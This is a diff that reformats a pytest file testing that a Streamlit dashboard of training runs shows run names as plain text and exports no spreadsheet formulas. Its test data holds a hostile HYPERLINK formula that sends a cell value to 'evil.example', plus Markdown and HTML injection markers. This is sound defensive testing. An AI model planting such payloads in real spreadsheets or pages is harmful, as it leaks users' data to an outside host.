@@ -1,4 +1,6 @@
-"""Texts of runs, studies and addresses on every page: shown as they are, whatever Markdown or HTML would make of them."""
+"""Texts of runs, studies and addresses on every page: shown as they are, whatever Markdown or
+HTML would make of them.
+"""
 
 from __future__ import annotations
 
@@ -39,7 +41,8 @@ PAGES = {
     "data": {},
     "tpu": {},
     **{
-        f"run evaluation {view}": EVALUATED | {"view": view} for view in ("Summary", "Film", "Errors", "Time")
+        f"run evaluation {view}": EVALUATED | {"view": view}
+        for view in ("Summary", "Film", "Errors", "Time")
     },
 }
 NAMES = (
@@ -50,8 +53,23 @@ NAMES = (
     '=HYPERLINK("http://evil.example/?" & A1, "Results")',
 )
 # What would be more than text where Markdown is shown, and where HTML is shown.
-MARKDOWN = ("![x]", "[x](", "<img", ":material/home", ":red[", "$x$", "`c`", "www.evil", "a@evil", "**s**", "~~g~~", "https://evil",
-            "\u202e", " _em_ ", " &lt;b")  # fmt: skip
+MARKDOWN = (
+    "![x]",
+    "[x](",
+    "<img",
+    ":material/home",
+    ":red[",
+    "$x$",
+    "`c`",
+    "www.evil",
+    "a@evil",
+    "**s**",
+    "~~g~~",
+    "https://evil",
+    "\u202e",
+    " _em_ ",
+    " &lt;b",
+)
 REFUSED = {"Html": ("<img", " &lt;b&gt; turned")}
 ESCAPED = re.compile(r"\\.")
 # Messages whose fields are shown as plain text, or not at all.
@@ -71,10 +89,15 @@ ATTRIBUTES = {"alt"}  # of an HTML element: plain text
 
 @pytest.fixture
 def hostile(trained: Callable[..., RunDir]) -> None:
-    """Runs, of which all but the first belong to a study, with such texts wherever a journal has one."""
+    """Runs, of which all but the first belong to a study, with such texts wherever a journal
+    has one.
+    """
     for number, name in enumerate(NAMES, start=1):
         run = trained(f"quick-000{number}", seconds=number, xla="jit" if number % 2 else "off")
-        lines = [json.loads(line) for line in run.supervisor_journal.read_text(encoding="utf-8").splitlines()]
+        lines = [
+            json.loads(line)
+            for line in run.supervisor_journal.read_text(encoding="utf-8").splitlines()
+        ]
         place = StudyPlace(
             study_id="study-0001",
             question="xla",
@@ -88,7 +111,9 @@ def hostile(trained: Callable[..., RunDir]) -> None:
             "".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8"
         )
         file = film_files.write(run, "film", films(8))
-        journal.append(run.earlier_journal("flow"), 1, iteration(steps=8).model_copy(update={"frames": file}))
+        journal.append(
+            run.earlier_journal("flow"), 1, iteration(steps=8).model_copy(update={"frames": file})
+        )
         journal.append(
             run.trainer_journal(),
             1,
@@ -101,7 +126,9 @@ def hostile(trained: Callable[..., RunDir]) -> None:
 
 
 def more_than_text(app: AppTest) -> list[str]:
-    """What the page sends to be shown as Markdown or HTML, where one of the texts is not escaped in it."""
+    """What the page sends to be shown as Markdown or HTML, where one of the texts is not
+    escaped in it.
+    """
     return [
         text
         for kind, text in shown(whole_page.tree(app))
@@ -133,7 +160,9 @@ def strings(message: Message) -> Iterator[str]:
 
 @pytest.mark.usefixtures("hostile")
 @pytest.mark.parametrize(("page", "query"), PAGES.items(), ids=list(PAGES))
-def test_a_page_shows_texts_of_runs_as_they_are(show: Show, page: str, query: dict[str, str]) -> None:
+def test_a_page_shows_texts_of_runs_as_they_are(
+    show: Show, page: str, query: dict[str, str]
+) -> None:
     app = show(page.split()[0], **query)
     assert not app.exception
     assert len(list(shown(whole_page.tree(app)))) > 5
@@ -142,7 +171,9 @@ def test_a_page_shows_texts_of_runs_as_they_are(show: Show, page: str, query: di
 
 @pytest.mark.usefixtures("hostile")
 @pytest.mark.parametrize("page", ["runs", "compare", "run", "studies"])
-def test_no_table_and_no_chart_holds_what_a_spreadsheet_takes_for_a_formula(show: Show, page: str) -> None:
+def test_no_table_and_no_chart_holds_what_a_spreadsheet_takes_for_a_formula(
+    show: Show, page: str
+) -> None:
     """Both can be copied and downloaded as CSV, by Streamlit's own bar above them."""
     query = EVALUATED if page == "run" else {"runs": "quick-0005,quick-0001"}
     app = show(page, **query)
@@ -177,7 +208,9 @@ def cells_of(table: pd.DataFrame) -> Iterator[str]:
     for values in ([*table.columns], *(table[name] for name in table)):
         for value in values:
             yield from (
-                part for part in (value if isinstance(value, list) else [value]) if isinstance(part, str)
+                part
+                for part in (value if isinstance(value, list) else [value])
+                if isinstance(part, str)
             )
 
 
